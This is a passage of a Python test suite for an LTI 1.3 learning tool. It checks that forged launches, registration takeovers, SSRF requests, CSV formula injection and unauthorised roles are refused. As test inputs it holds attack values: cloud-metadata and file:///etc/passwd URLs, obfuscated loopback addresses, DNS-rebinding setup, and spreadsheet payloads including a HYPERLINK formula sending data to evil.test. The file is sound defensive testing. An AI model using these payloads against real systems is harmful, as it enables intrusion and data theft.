"""Login and launch against the IMS Security Framework: every forged or broken launch is refused
with a clear error page, and nothing is stored (no launch, no consumed login state)."""

from __future__ import annotations

import time

import httpx
import pytest

from sqlalchemy import select, update

from lti.db import Launch, Progress, ProgressChange
from lti_harness import Tool, csrf_of, platform, tool  # noqa: F401 (fixtures)
from lti_platform import LTI, rsa_key
from test_lti_grades import deliver_all, earn
from test_lti_launch import put_state


@pytest.fixture(autouse=True)
def fresh_cookies(tool):
    tool.client.cookies.clear()
    yield


def rejected(tool: Tool, response: httpx.Response, code: str, before: dict, status: int | None = None) -> None:
    assert response.status_code >= 400, response.text
    if status:
        assert response.status_code == status
    assert "The module could not be started" in response.text or "Das Modul konnte nicht gestartet werden" in response.text
    assert f"({code})" in response.text, response.text
    assert tool.counts() == before, "a rejected launch must store nothing"


def mutated(tool: Tool, code: str, mutate=None, status: int | None = None, **flow_args) -> None:
    before = tool.counts()
    flow = tool.launch(mutate=mutate, custom={"module": "grundlagen"}, **flow_args)
    rejected(tool, flow.launch, code, before, status)


# --- the valid launch and its cookie --------------------------------------------------------------


def test_valid_launch_delivers_the_module_and_consumes_the_state(tool):
    before = tool.counts()
    flow = tool.launch(custom={"module": "grundlagen"})
    launch_id, page = tool.play(flow)
    assert '"lms":"http"' in page and f'"/lti/state/{launch_id}"' in page
    after = tool.counts()
    assert after["launches"] == before["launches"] + 1 and after["consumed"] == before["consumed"] + 1


def test_state_cookie_over_https_is_partitioned_cross_site_cookie(tool):
    login = tool.start_login()
    cookie = login.headers["set-cookie"]
    for attribute in ("HttpOnly", "Secure", "SameSite=None", "Partitioned", "Path=/lti/"):
        assert attribute in cookie


def test_state_cookie_on_loopback_http_is_lax(platform, tmp_path):
    saved = platform.tool_jwks_url, platform.redirect_uris
    local = Tool(tmp_path / "data", platform, base_url="http://127.0.0.1:8765")
    try:
        cookie = local.start_login(target="http://127.0.0.1:8765/lti/launch").headers["set-cookie"]
        assert "SameSite=Lax" in cookie and "HttpOnly" in cookie
        assert "Secure" not in cookie and "SameSite=None" not in cookie
    finally:
        local.close()
        platform.tool_jwks_url, platform.redirect_uris = saved


def test_login_redirects_to_platform_with_oidc_parameters(tool, platform):
    login = tool.start_login()
    assert login.status_code == 302
    location = httpx.URL(login.headers["location"])
    params = dict(location.params)
    assert str(location).startswith(platform.auth_url)
    assert params["scope"] == "openid" and params["response_type"] == "id_token"
    assert params["response_mode"] == "form_post" and params["prompt"] == "none"
    assert params["redirect_uri"] == "https://tool.test/lti/launch"
    assert params["client_id"] == platform.client_id and params["state"] and params["nonce"]


def test_platform_key_rotation_is_picked_up_by_fetching_once_more(tool, platform):
    old = platform.key
    platform.key = rsa_key()
    fetches = platform.jwks_fetches
    try:
        tool.play(tool.launch(custom={"module": "grundlagen"}))
        assert platform.jwks_fetches == fetches + 1
        tool.play(tool.launch(custom={"module": "grundlagen"}))  # now cached
        assert platform.jwks_fetches == fetches + 1
    finally:
        platform.key = old


def test_missing_cookie_offers_the_launch_in_a_new_window(tool):
    before = tool.counts()
    flow = tool.launch(custom={"module": "grundlagen"}, post=False)
    tool.client.cookies.clear()  # third-party cookies blocked in the LMS's iframe
    response = tool.client.post("/lti/launch", data=flow.fields)
    assert response.status_code == 401
    assert 'id="open-window"' in response.text and 'target="_blank"' in response.text
    assert "/lti/login?iss=" in response.text
    assert tool.counts() == before


# --- signature and key ------------------------------------------------------------------------------


def test_forged_signature(tool):
    def tamper(token: str) -> str:
        head, body, sig = token.split(".")
        return ".".join([head, body, sig[:-6] + ("AAAAAA" if not sig.endswith("AAAAAA") else "BBBBBB")])

    mutated(tool, "bad_signature", token=lambda claims: tamper(tool.platform.sign(claims)))


def test_payload_changed_after_signing(tool):
    import base64
    import json

    def swap_payload(claims: dict) -> str:
        head, _, sig = tool.platform.sign(claims).split(".")
        evil = dict(claims, sub="admin")
        body = base64.urlsafe_b64encode(json.dumps(evil).encode()).rstrip(b"=").decode()
        return ".".join([head, body, sig])

    mutated(tool, "bad_signature", token=swap_payload)


def test_another_key_under_our_kid(tool):
    intruder = rsa_key()
    mutated(tool, "bad_signature", sign={"key": intruder, "kid": tool.platform.key.kid})


def test_unknown_kid_is_fetched_once_then_refused(tool, platform):
    fetches = platform.jwks_fetches
    mutated(tool, "unknown_kid", sign={"key": rsa_key(), "kid": "not-a-platform-kid"})
    assert platform.jwks_fetches == fetches + 1


def test_alg_none(tool):
    mutated(tool, "bad_alg", token=lambda claims: tool.platform.sign(claims, alg="none"))


def test_hs256_keyed_with_the_public_key(tool):
    mutated(tool, "bad_alg", token=lambda claims: tool.platform.hs256_with_public_key(claims))


def test_malformed_token(tool):
    mutated(tool, "malformed_token", token=lambda claims: "not.a-jwt")


# --- time ------------------------------------------------------------------------------------------


def test_expired(tool):
    mutated(tool, "expired", mutate=lambda c: c.update(exp=int(time.time()) - 3600, iat=int(time.time()) - 3700))


def test_missing_exp(tool):
    mutated(tool, "missing_exp", mutate=lambda c: c.pop("exp"))


def test_future_iat(tool):
    mutated(tool, "future_iat", mutate=lambda c: c.update(iat=int(time.time()) + 3600, exp=int(time.time()) + 7200))


def test_small_clock_skew_is_accepted(tool):
    flow = tool.launch(custom={"module": "grundlagen"}, mutate=lambda c: c.update(iat=int(time.time()) + 20))
    tool.play(flow)


# --- issuer and audience ------------------------------------------------------------------------------


def test_wrong_iss(tool):
    mutated(tool, "wrong_iss", mutate=lambda c: c.update(iss="https://evil.example.org"))


def test_foreign_aud(tool):
    mutated(tool, "wrong_aud", mutate=lambda c: c.update(aud="another-tool"))


def test_extra_aud_without_azp(tool):
    mutated(tool, "missing_azp", mutate=lambda c: c.update(aud=[tool.platform.client_id, "another-tool"]))


def test_extra_untrusted_aud_with_azp(tool):
    mutated(tool, "untrusted_aud",
            mutate=lambda c: c.update(aud=[tool.platform.client_id, "another-tool"], azp=tool.platform.client_id))


def test_wrong_azp(tool):
    mutated(tool, "wrong_azp", mutate=lambda c: c.update(azp="another-tool"))


# --- nonce and state ------------------------------------------------------------------------------


def test_missing_nonce(tool):
    mutated(tool, "missing_nonce", mutate=lambda c: c.pop("nonce"))


def test_unknown_nonce(tool):
    mutated(tool, "unknown_nonce", mutate=lambda c: c.update(nonce="made-up-nonce"))


def test_replayed_launch_post(tool):
    flow = tool.launch(custom={"module": "grundlagen"})
    tool.play(flow)
    before = tool.counts()
    again = tool.client.post("/lti/launch", data=flow.fields)
    rejected(tool, again, "unknown_state", before)


def test_replayed_id_token_with_a_fresh_state(tool):
    flow = tool.launch(custom={"module": "grundlagen"})
    tool.play(flow)
    fresh = tool.start_login()  # a new login: new state, new cookie
    state = dict(httpx.URL(fresh.headers["location"]).params)["state"]
    before = tool.counts()
    response = tool.client.post("/lti/launch", data={"id_token": flow.fields["id_token"], "state": state})
    rejected(tool, response, "replayed_nonce", before)


def test_missing_state(tool):
    flow = tool.launch(custom={"module": "grundlagen"}, post=False)
    before = tool.counts()
    rejected(tool, tool.client.post("/lti/launch", data={"id_token": flow.fields["id_token"]}), "missing_state", before)


def test_unknown_state(tool):
    flow = tool.launch(custom={"module": "grundlagen"}, post=False)
    before = tool.counts()
    response = tool.client.post("/lti/launch", data={"id_token": flow.fields["id_token"], "state": "forged-state"})
    rejected(tool, response, "unknown_state", before)


def test_forged_state_cookie(tool):
    from lti.security import cookie_name

    flow = tool.launch(custom={"module": "grundlagen"}, post=False)
    tool.client.cookies.clear()
    tool.client.cookies.set(cookie_name(flow.fields["state"]), "0" * 64, domain="tool.test", path="/lti/")
    before = tool.counts()
    rejected(tool, tool.client.post("/lti/launch", data=flow.fields), "forged_state", before)


def test_expired_login_state(tool):
    from sqlalchemy import update

    from lti.db import LoginState

    flow = tool.launch(custom={"module": "grundlagen"}, post=False)
    with tool.tool.Session() as session:
        session.execute(update(LoginState).where(LoginState.state == flow.fields["state"]).values(expires_at=0))
        session.commit()
    before = tool.counts()
    rejected(tool, tool.client.post("/lti/launch", data=flow.fields), "unknown_state", before)


# --- LTI claims ---------------------------------------------------------------------------------


def test_unknown_deployment(tool):
    mutated(tool, "unknown_deployment", mutate=lambda c: c.update({LTI + "deployment_id": "999"}))


def test_wrong_message_type(tool):
    mutated(tool, "wrong_message_type", mutate=lambda c: c.update({LTI + "message_type": "LtiSubmissionReviewRequest"}))


def test_wrong_version(tool):
    mutated(tool, "wrong_version", mutate=lambda c: c.update({LTI + "version": "1.1"}))


def test_missing_roles(tool):
    mutated(tool, "missing_roles", mutate=lambda c: c.pop(LTI + "roles"))


def test_missing_resource_link_id(tool):
    mutated(tool, "missing_resource_link", mutate=lambda c: c.update({LTI + "resource_link": {"title": "x"}}))


def test_target_link_uri_differs_from_login(tool):
    mutated(tool, "target_mismatch",
            mutate=lambda c: c.update({LTI + "target_link_uri": "https://tool.test/lti/launch?module=other"}))


def test_target_link_uri_on_a_foreign_host_at_login(tool):
    before = tool.counts()
    response = tool.start_login(target="https://evil.example.org/lti/launch")
    rejected(tool, response, "foreign_target", before)


def test_unknown_module(tool):
    before = tool.counts()
    flow = tool.launch(custom={"module": "no-such-module"})
    rejected(tool, flow.launch, "unknown_module", before)


# --- transport -------------------------------------------------------------------------------------


def test_unknown_client_at_login(tool):
    before = tool.counts()
    rejected(tool, tool.start_login(client_id="who-is-this"), "unknown_client", before, 403)


def test_unknown_issuer_at_login(tool):
    before = tool.counts()
    rejected(tool, tool.start_login(iss="https://unknown.example.org"), "unknown_client", before, 403)


def test_oversized_token(tool):
    # over max_token_bytes (16 KiB) but within the request limit (twice that): the token check refuses it
    mutated(tool, "oversized_token", mutate=lambda c: c.update(padding="x" * 14_000))


def test_oversized_request(tool):
    # over twice max_token_bytes: refused from Content-Length before the form is parsed
    mutated(tool, "oversized_request", mutate=lambda c: c.update(padding="x" * 40_000))


def test_id_token_by_get(tool):
    flow = tool.launch(custom={"module": "grundlagen"}, post=False)
    before = tool.counts()
    response = tool.client.get("/lti/launch", params=flow.fields)
    rejected(tool, response, "id_token_by_get", before, 405)


def test_platform_keys_unreachable(tool, platform):
    platform.down = True
    try:
        with tool.tool.Session() as session:  # forget the cached key set
            from lti.db import Platform

            for row in session.query(Platform):
                row.jwks, row.jwks_fetched_at = None, 0
            session.commit()
        with tool.tool.store.connection() as connection:  # the launch path holds registrations in memory
            tool.tool.platforms.reload(connection)
        before = tool.counts()
        flow = tool.launch(custom={"module": "grundlagen"}, post=False)
        rejected(tool, tool.client.post("/lti/launch", data=flow.fields), "jwks_unavailable", before, 502)
    finally:
        platform.down = False


@pytest.mark.parametrize("name", ["context", "resource_link", "custom", "launch_presentation"])
def test_claims_of_the_wrong_type_give_an_error_page_not_a_crash(tool, name):
    before = tool.counts()
    flow = tool.launch(custom={"module": "grundlagen"}, mutate=lambda c: c.update({LTI + name: "not-an-object"}))
    if flow.launch.status_code == 303:  # an optional claim we can do without: the launch works
        tool.play(flow)
    else:
        assert flow.launch.status_code < 500 and "(" in flow.launch.text
        assert tool.counts() == before


# === issue 18: registration only with an administrator's consent, no takeover, no SSRF, safe CSV, roles ===

from urllib.parse import urlencode  # noqa: E402

from lti.outbound import OutboundClient, OutboundError, OutboundPolicy  # noqa: E402
from lti_platform import ROLE_INSTRUCTOR, ROLE_LEARNER, MoodleLikePlatform  # noqa: E402

CONFIG_PATH = "/mod/lti/openid-configuration.php"
LIS = "http://purl.imsglobal.org/vocab/lis/v2/"


@pytest.fixture
def victim(tmp_path):
    """(tool, platform): a fresh tool with one registered platform, the one an attacker wants to take over."""
    platform = MoodleLikePlatform()
    tool = Tool(tmp_path / "victim", platform)
    platform.tool_socket_url = tool.server.url
    yield tool, platform
    tool.close()
    platform.stop()


@pytest.fixture
def attacker():
    """A platform the attacker runs, with real keys, that claims the victim's client id."""
    platform = MoodleLikePlatform(client_id="moodle-client-1", deployment_id="666")
    yield platform
    platform.stop()


def register_with(tool: Tool, config_url: str, platform_token: str, path: str | None = None) -> httpx.Response:
    query = urlencode({"openid_configuration": config_url, "registration_token": platform_token})
    return tool.client.get((path or tool.registration_path()) + "?" + query)


def refused_page(response: httpx.Response, status: int, code: str) -> None:
    assert response.status_code == status, response.text
    assert f"({code})" in response.text, response.text
    assert "org.imsglobal.lti.close" not in response.text


# --- registration needs an administrator's one-time token --------------------------------------------------


@pytest.mark.parametrize("path", ["/lti/register", "/lti/register/made-up-token",
                                  "/lti/register/" + "A" * 43])
def test_registration_without_a_valid_token_is_403_and_fetches_nothing(victim, attacker, path):
    tool, _ = victim
    before = tool.snapshot()
    response = register_with(tool, attacker.url + CONFIG_PATH, attacker.registration_token, path=path)
    refused_page(response, 403, "registration_token")
    assert attacker.config_fetches == 0 and attacker.registrations == []
    assert tool.snapshot() == before


def test_an_expired_registration_token_fetches_nothing(victim, attacker):
    tool, _ = victim
    path = tool.registration_path(lifetime=-1)
    refused_page(register_with(tool, attacker.url + CONFIG_PATH, attacker.registration_token, path), 403,
                 "registration_token")
    assert attacker.config_fetches == 0


def test_a_registration_token_works_once(tmp_path, attacker):
    tool = Tool(tmp_path / "data")
    attacker.tool_socket_url = tool.server.url
    try:
        path = tool.registration_path()
        attacker.registration_token = "other"  # the first use fails at the platform: the token is spent anyway
        refused_page(register_with(tool, attacker.url + CONFIG_PATH, "wrong", path), 502, "registration_failed")
        fetches = attacker.config_fetches
        refused_page(register_with(tool, attacker.url + CONFIG_PATH, "other", path), 403, "registration_token")
        assert attacker.config_fetches == fetches and tool.snapshot() == []
    finally:
        tool.close()


# --- no takeover of a registered platform ---------------------------------------------------------------------


def test_takeover_with_userinfo_in_the_configuration_url_is_refused(victim, attacker):
    # The attack run's sequence: issuer http://victim, URL http://victim@attacker/… passed a prefix test.
    tool, platform = victim
    before = tool.snapshot()
    victim_hostport = platform.url.removeprefix("http://")
    attacker.config_overrides = {"issuer": platform.issuer}
    forged = f"http://{victim_hostport}@{attacker.url.removeprefix('http://')}{CONFIG_PATH}"
    assert forged.startswith(platform.issuer)  # what the old prefix check accepted
    refused_page(register_with(tool, forged, attacker.registration_token), 400, "registration_url")
    assert attacker.config_fetches == 0 and platform.config_fetches == 0 and attacker.registrations == []
    assert tool.snapshot() == before


def test_takeover_with_a_foreign_issuer_is_refused_and_its_keys_never_verify_a_launch(victim, attacker):
    tool, platform = victim
    before = tool.snapshot()
    attacker.config_overrides = {"issuer": platform.issuer, "jwks_uri": attacker.jwks_url}
    refused_page(register_with(tool, attacker.url + CONFIG_PATH, attacker.registration_token), 400,
                 "registration_issuer")
    assert attacker.registrations == []  # nothing posted to the attacker either
    assert tool.snapshot() == before
    flow_before = tool.counts()
    flow = tool.launch(custom={"module": "grundlagen"}, sign={"key": attacker.key})  # signed with the attacker's key
    rejected(tool, flow.launch, "unknown_kid", flow_before, 401)
    assert attacker.jwks_fetches == 0


def test_re_registering_a_known_platform_changes_nothing(victim):
    # The platform itself (or whoever holds a token and controls its origin) registers again with the same
    # client id and a new deployment and key set: refused, the stored row stays as it was.
    tool, platform = victim
    before = tool.snapshot()
    platform.deployment_id = "99"
    platform.config_overrides = {"jwks_uri": platform.url + "/elsewhere/certs.php"}
    refused_page(register_with(tool, platform.url + CONFIG_PATH, platform.registration_token), 409,
                 "registration_exists")
    assert tool.snapshot() == before
    platform.deployment_id = "3"
    tool.play(tool.launch(custom={"module": "grundlagen"}))  # the registered platform still works


def test_the_same_issuer_with_a_new_client_id_is_a_new_platform(victim):
    tool, platform = victim
    (first,) = tool.snapshot()
    platform.client_id = "moodle-client-2"
    page = register_with(tool, platform.url + CONFIG_PATH, platform.registration_token)
    assert page.status_code == 200, page.text
    stored = tool.snapshot()
    assert stored[0] == first and [p["client_id"] for p in stored] == ["moodle-client-1", "moodle-client-2"]


@pytest.mark.parametrize("issuer, config_url, same", [
    ("https://moodle.example.org", "https://moodle.example.org/mod/lti/openid-configuration.php", True),
    ("https://MOODLE.example.org:443/moodle", "https://moodle.example.org/x", True),
    ("https://moodle.example.org", "https://moodle.example.org.attacker.test/x", False),  # a prefix, not the host
    ("https://moodle.example.org", "https://moodle.example.org@attacker.test/x", False),
    ("https://moodle.example.org", "https://moodle.example.org:8443/x", False),
    ("https://moodle.example.org", "http://moodle.example.org/x", False),
    ("https://user@moodle.example.org", "https://moodle.example.org/x", False),
])
def test_the_issuer_must_be_the_configuration_urls_origin(issuer, config_url, same):
    from lti.registration import origin

    assert (origin(issuer) is not None and origin(issuer) == origin(config_url)) is same


# --- one guarded client for every outgoing request (SSRF) ----------------------------------------------------

PRODUCTION = OutboundPolicy(allow_loopback=False, timeout=2.0)
DEVELOPMENT = OutboundPolicy(allow_loopback=True, timeout=2.0)


@pytest.mark.parametrize("url", ["ftp://moodle.example.org/x", "file:///etc/passwd", "gopher://moodle.example.org/",
                                 "https://user:pw@moodle.example.org/x", "https://moodle.example.org@evil.test/",
                                 "https:///no-host", "http://moodle.example.org/plain-http", "https://h:port/"])
def test_outbound_refuses_urls_before_any_connection(url):
    with OutboundClient(PRODUCTION) as client, pytest.raises(OutboundError):
        client.get(url)


PRIVATE_HOSTS = ["10.0.0.1", "172.16.0.1", "192.168.1.1", "169.254.169.254", "100.64.0.1", "0.0.0.0", "224.0.0.1",
                 "[fe80::1]", "[fc00::1]", "[::ffff:169.254.169.254]", "[64:ff9b::a9fe:a9fe]", "[2002:a9fe:a9fe::]"]
LOOPBACK_FORMS = ["127.0.0.1", "localhost", "127.1", "2130706433", "0x7f000001", "[::1]", "[::ffff:127.0.0.1]",
                  "[64:ff9b::7f00:1]"]


@pytest.mark.parametrize("host", PRIVATE_HOSTS + LOOPBACK_FORMS)
def test_outbound_refuses_private_and_loopback_targets(platform, host):
    fetches = platform.jwks_fetches
    with OutboundClient(PRODUCTION) as client, pytest.raises(OutboundError) as refused:
        client.get(f"https://{host}:{platform.server.port}/mod/lti/certs.php")
    assert str(refused.value) == "the server's address is not allowed for requests from this tool"
    assert platform.jwks_fetches == fetches  # nothing reached the live server on 127.0.0.1


@pytest.mark.parametrize("host", PRIVATE_HOSTS)
def test_development_mode_allows_loopback_and_nothing_else_private(platform, host):
    with OutboundClient(DEVELOPMENT) as client:
        with pytest.raises(OutboundError):
            client.get(f"http://{host}:{platform.server.port}/mod/lti/certs.php")
        assert client.get(platform.jwks_url).status_code == 200


def test_an_administrator_may_allow_a_private_network_and_only_that():
    from lti.outbound import networks, vetted_addresses

    intranet = OutboundPolicy(allowed_networks=networks("10.20.0.0/16, fd00:20::/32"))
    assert vetted_addresses("10.20.3.4", 443, intranet) == ["10.20.3.4"]
    assert vetted_addresses("fd00:20::5", 443, intranet) == ["fd00:20::5"]
    for other in ("10.21.0.1", "169.254.169.254", "127.0.0.1", "192.168.1.1", "fd00:21::5"):
        with pytest.raises(OutboundError):
            vetted_addresses(other, 443, intranet)
    with pytest.raises(ValueError, match="not a network"):
        networks("10.20.0.0/16, intranet")


def test_a_bad_allowed_network_is_a_usage_error(tmp_path):
    from conftest import run_course

    result = run_course("lti", "worker", "--once", "--data", str(tmp_path / "data"), "--allow-networks", "intranet")
    assert result.code == 2 and "not a network" in result.stderr


def test_the_connection_goes_to_the_vetted_address_with_the_host_name_kept(platform, monkeypatch):
    # DNS rebinding: the name first resolves to an allowed address, then to a forbidden one. The client
    # resolves once, connects to what it vetted, and the server still sees the name in the Host header.
    import socket

    from lti import outbound

    answers = iter(["127.0.0.1"] + ["169.254.169.254"] * 10)
    real = socket.getaddrinfo

    def rebinding(host, port, *args, **kwargs):
        if host == "platform.rebind.test":
            return [(socket.AF_INET, socket.SOCK_STREAM, 6, "", (next(answers), port))]
        return real(host, port, *args, **kwargs)

    monkeypatch.setattr(outbound.socket, "getaddrinfo", rebinding)
    url = f"http://platform.rebind.test:{platform.server.port}/mod/lti/certs.php"
    with OutboundClient(DEVELOPMENT) as client:
        assert client.get(url).status_code == 200
        assert platform.jwks_hosts[-1] == f"platform.rebind.test:{platform.server.port}"
    with OutboundClient(DEVELOPMENT) as client, pytest.raises(OutboundError):
        client.get(url)  # a new connection: the name now resolves to a forbidden address


def test_redirects_are_not_followed(tool, platform):
    elsewhere = MoodleLikePlatform()
    try:
        platform.jwks_redirect = elsewhere.jwks_url
        with tool.tool.Session() as session:  # forget the cached key set
            from lti.db import Platform

            for row in session.query(Platform):
                row.jwks, row.jwks_fetched_at = None, 0
            session.commit()
        with tool.tool.store.connection() as connection:
            tool.tool.platforms.reload(connection)
        mutated(tool, "jwks_unavailable", status=502)
        assert elsewhere.jwks_fetches == 0
    finally:
        platform.jwks_redirect = ""
        elsewhere.stop()


def test_answers_over_the_size_limit_are_refused(platform):
    from lti_platform import rsa_key

    saved = list(platform.extra_keys)
    platform.extra_keys += [rsa_key() for _ in range(8)]  # about 5 KB of key set
    try:
        with OutboundClient(OutboundPolicy(allow_loopback=True, max_bytes=2000)) as client, \
                pytest.raises(OutboundError, match="too large"):
            client.get(platform.jwks_url)
    finally:
        platform.extra_keys = saved


def test_slow_answers_are_given_up(platform):
    platform.jwks_delay = 3.0
    try:
        started = time.monotonic()
        with OutboundClient(OutboundPolicy(allow_loopback=True, timeout=0.5)) as client, pytest.raises(OutboundError):
            client.get(platform.jwks_url)
        assert time.monotonic() - started < 2.5
    finally:
        platform.jwks_delay = 0.0


def test_an_answer_that_trickles_is_given_up_after_the_time_limit():
    # Each piece arrives within the read timeout; the whole answer would take 6 s: cut off after 1 s.
    import asyncio

    from starlette.applications import Starlette
    from starlette.responses import StreamingResponse
    from starlette.routing import Route

    from lti_platform import Server

    async def trickle(request):
        async def pieces():
            for _ in range(20):
                yield b"x" * 10
                await asyncio.sleep(0.3)
        return StreamingResponse(pieces())

    server = Server(Starlette(routes=[Route("/", trickle)]))
    try:
        started = time.monotonic()
        policy = OutboundPolicy(allow_loopback=True, timeout=2.0, max_seconds=1.0)
        with OutboundClient(policy) as client, pytest.raises(OutboundError, match="too slowly"):
            client.get(server.url + "/")
        assert time.monotonic() - started < 2.0
    finally:
        server.stop()


def closed_port() -> int:
    import socket

    with socket.socket() as sock:
        sock.bind(("127.0.0.1", 0))
        return sock.getsockname()[1]


@pytest.mark.parametrize("target", ["http://127.0.0.1:{port}/config", "http://169.254.169.254/latest/meta-data/",
                                    "http://10.0.0.1:{port}/config", "http://no-such-host.invalid/config"])
def test_registration_errors_name_no_internal_detail(tmp_path, caplog, target):
    import logging

    caplog.set_level(logging.INFO, logger="lti")
    tool = Tool(tmp_path / "data")
    try:
        port = closed_port()
        page = register_with(tool, target.format(port=port), "x")
        refused_page(page, 502, "registration_failed")
        for detail in ("refused", "Errno", "timed out", str(port), "127.0.0.1", "169.254", "10.0.0.1", "invalid"):
            assert detail not in page.text
        assert tool.snapshot() == []
        assert target.format(port=port) in caplog.text  # the detail is in the server's log
    finally:
        tool.close()


@pytest.mark.parametrize("endpoint, status, code", [
    ("http://169.254.169.254/register", 502, "registration_refused"),  # resolved and refused at the POST
    ("http://127.0.0.1@169.254.169.254/register", 400, "registration_incomplete"),
    ("file:///etc/passwd", 400, "registration_incomplete"),
])
def test_a_registration_endpoint_elsewhere_is_not_posted_to(tmp_path, endpoint, status, code):
    platform = MoodleLikePlatform()
    tool = Tool(tmp_path / "data")
    try:
        platform.config_overrides = {"registration_endpoint": endpoint}
        refused_page(register_with(tool, platform.url + CONFIG_PATH, platform.registration_token), status, code)
        assert platform.registrations == [] and tool.snapshot() == []
    finally:
        tool.close()
        platform.stop()


def test_a_tool_outside_development_mode_sends_nothing_to_loopback(tmp_path, platform):
    tool = Tool(tmp_path / "data", dev=False)
    try:
        fetches = platform.config_fetches
        refused_page(register_with(tool, platform.url + CONFIG_PATH, platform.registration_token), 400,
                     "registration_url")  # plain http
        refused_page(register_with(tool, platform.url.replace("http:", "https:") + CONFIG_PATH,
                                   platform.registration_token), 502, "registration_failed")
        assert platform.config_fetches == fetches
        # A platform registered by hand with loopback URLs: its key set is not fetched either.
        tool.platform = platform
        tool.register(platform)
        jwks_fetches, before = platform.jwks_fetches, tool.counts()
        flow = tool.launch(custom={"module": "grundlagen"})
        rejected(tool, flow.launch, "jwks_unavailable", before, 502)
        assert platform.jwks_fetches == jwks_fetches and str(platform.server.port) not in flow.launch.text
    finally:
        tool.close()
        platform.tool_jwks_url = ""


def test_roster_and_grade_requests_go_through_the_guard(tool, platform):
    from lti import ags
    from lti.db import Launch
    from lti.nrps import sync_roster

    launch_id = tool.play(tool.launch(custom={"module": "grundlagen"}, user="t-guard", roles=[ROLE_INSTRUCTOR]))[0]
    tokens = platform.token_requests
    with OutboundClient(PRODUCTION) as production, tool.tool.background() as session:
        launch = session.get(Launch, launch_id)
        with pytest.raises(ags.ServiceError) as failed:
            sync_roster(session, launch, production)
    assert platform.token_requests == tokens
    assert str(platform.server.port) not in str(failed.value) and "127.0.0.1" not in str(failed.value)


# --- CSV exports: no formulas ---------------------------------------------------------------------------------

PAYLOADS = ["=cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "+1+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
            "\t=1+1", "\r=1+1", "=HYPERLINK(\"http://evil.test/?\"&A1,\"x\")", "\uff1d1+1"]


@pytest.mark.parametrize("payload", PAYLOADS)
def test_a_formula_cell_gets_a_quote(payload):
    from lti.csvfile import safe_cell

    assert safe_cell(payload) == "'" + payload


@pytest.mark.parametrize("value", ["-3", "+49", "2,5", "-0.75", "Anna-Lena", "Gruppe 1", "a@example.org", "", "Ö=Ä"])
def test_plain_values_stay_as_they_are(value):
    from lti.csvfile import safe_cell

    assert safe_cell(value) == value


def test_ordinary_rows_are_written_byte_for_byte_as_before():
    # What Moodle's group import and upload-users were checked with (README) is unchanged for ordinary values.
    import csv as csvlib
    import io

    from lti.csvfile import write_csv

    rows = [["username", "email", "course1", "group1"], ["ukrause", "a.krause@example.org", "NWK", "Projektgruppe 1"],
            ["u-lena", "anna-lena.öz@example.org", "NWK", "Projektgruppe 2"], ["u7", "x@example.org", "-3", "+49"],
            ["mit, komma", 'mit "quote"', "", "zeile\numbruch"]]
    plain = io.StringIO()
    csvlib.writer(plain, lineterminator="\n").writerows(rows)
    assert write_csv(rows) == plain.getvalue()


def test_every_csv_export_neutralises_roster_and_group_names(tmp_path):
    import csv as csvlib
    import io

    platform = MoodleLikePlatform()
    for i, payload in enumerate(PAYLOADS[:4]):
        platform.enrol(f"x{i}", name=payload, email=payload if i % 2 else f"x{i}@example.org")
        platform.members[-1].username = payload
    platform.enrol("ok", name="Anna-Lena Ordentlich")
    platform.enrol("t1", name="Lehrkraft", role="Instructor")
    tool = Tool(tmp_path / "data", platform)
    try:
        launch_id = tool.play(tool.launch(custom={"module": "grundlagen"}, user="t1", roles=[ROLE_INSTRUCTOR]))[0]
        page = tool.client.get(f"/lti/groups/{launch_id}").text
        token = page.split('name="csrf" value="', 1)[1].split('"', 1)[0]
        tool.client.post(f"/lti/groups/{launch_id}/do/sync", data={"csrf": token})
        tool.client.post(f"/lti/groups/{launch_id}/do/form", data={"csrf": token})
        tool.client.post(f"/lti/groups/{launch_id}/do/save", data={"csrf": token, "group-x0": "@SUM(1+1)",
                                                                    "group-ok": "=1+1"})
        for kind in ("groups.csv", "moodle-groups.csv", "moodle-members.csv"):
            text = tool.client.get(f"/lti/groups/{launch_id}/export/{kind}").text
            rows = list(csvlib.reader(io.StringIO(text)))
            assert len(rows) > 1 and len({len(row) for row in rows}) == 1, kind
            for cell in (cell for row in rows for cell in row):
                assert not cell.startswith(("=", "+", "-", "@", "\t", "\r", "\uff1d")), (kind, cell)
            cells = {cell for row in rows for cell in row}
            assert "'@SUM(1+1)" in cells and "'=1+1" in cells, kind
            if kind != "moodle-groups.csv":
                assert "'" + PAYLOADS[0] in cells and "'" + PAYLOADS[3] in cells, kind
        members = list(csvlib.DictReader(io.StringIO(tool.client.get(
            f"/lti/groups/{launch_id}/export/moodle-members.csv").text)))
        assert {m["username"] for m in members} >= {"uok"}  # ordinary values are as Moodle knows them
        assert next(m for m in members if m["username"] == "uok")["group1"] == "'=1+1"
    finally:
        tool.close()
        platform.stop()


# --- roles: deep linking and teacher pages only for teaching context roles -----------------------------------

NOT_TEACHING = [
    [ROLE_LEARNER],
    [LIS + "institution/person#Administrator"],
    [LIS + "system/person#Administrator", LIS + "institution/person#Instructor"],
    [LIS + "institution/person#Faculty"],
    ["http://evil.example/vocab/lis/v2/membership#Instructor"],
    ["https://purl.imsglobal.org/vocab/lis/v2/membership#Instructor"],  # https: another URI
    [LIS + "membership/Learner#Instructor"],  # a learner sub-role, whatever its name
    [LIS + "membership#Mentor", LIS + "membership#Administrator"],
    ["Administrator"], ["TeachingAssistant"], ["instructor"], [ROLE_LEARNER + "#Instructor"],
]
TEACHING = [[ROLE_INSTRUCTOR], [LIS + "membership#ContentDeveloper"],
            [LIS + "membership/Instructor#TeachingAssistant"], [LIS + "membership/ContentDeveloper#Librarian"],
            ["Instructor"], ["ContentDeveloper"], [ROLE_LEARNER, ROLE_INSTRUCTOR]]


@pytest.mark.parametrize("roles", NOT_TEACHING)
def test_a_deep_linking_launch_without_a_teaching_role_is_refused(tool, platform, roles):
    before, responses = tool.counts(), len(platform.dl_responses)
    flow = tool.launch(message_type="LtiDeepLinkingRequest", roles=roles)
    rejected(tool, flow.launch, "not_instructor", before, 403)
    assert "JWT" not in flow.launch.text and len(platform.dl_responses) == responses


@pytest.mark.parametrize("roles", TEACHING)
def test_teaching_context_roles_may_deep_link(tool, roles):
    flow = tool.launch(message_type="LtiDeepLinkingRequest", roles=roles)
    assert flow.launch.status_code == 303, flow.launch.text
    assert tool.client.get(flow.launch.headers["location"]).status_code == 200


def test_a_learner_launch_cannot_use_the_picker_or_get_a_signed_answer(tool):
    launch_id = tool.play(tool.launch(custom={"module": "grundlagen"}, user="s-dl"))[0]
    from lti.security import csrf_token

